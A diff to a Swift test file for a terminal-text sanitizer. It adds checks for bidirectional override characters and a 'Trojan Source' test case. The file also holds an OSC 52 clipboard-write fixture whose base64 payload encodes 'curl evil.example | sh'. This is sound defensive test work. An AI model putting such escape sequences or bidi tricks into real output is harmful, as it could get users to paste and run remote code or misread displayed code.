@@ -9,12 +9,21 @@ struct Attack: Sendable, CustomTestStringConvertible {
     var testDescription: String { name }
 }
 
-/// Whether text can be written to a terminal without driving it: no ESC, no C1 control.
+/// Whether text can be written to a terminal without driving it: no ESC, no C1 control, no
+/// bidirectional override.
 func isTerminalSafe(_ text: String) -> Bool {
-    !text.unicodeScalars.contains { $0.value == 0x1B || (0x80...0x9F).contains($0.value) }
+    !text.unicodeScalars.contains { scalar in
+        let value = scalar.value
+        return value == 0x1B || (0x80...0x9F).contains(value) || (0x202A...0x202E).contains(value)
+            || (0x2066...0x2069).contains(value)
+    }
 }
 
 let attacks: [Attack] = [
+    Attack(
+        name: "bidi override reversing what a line shows (Trojan Source)",
+        input: "approve \u{202E}tsoc eht\u{202C} and \u{2067}isolate\u{2069} end",
+        cleaned: "approve tsoc eht and isolate end"),
     Attack(
         name: "OSC 52 clipboard write ended by BEL",
         input: "hi\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}there",
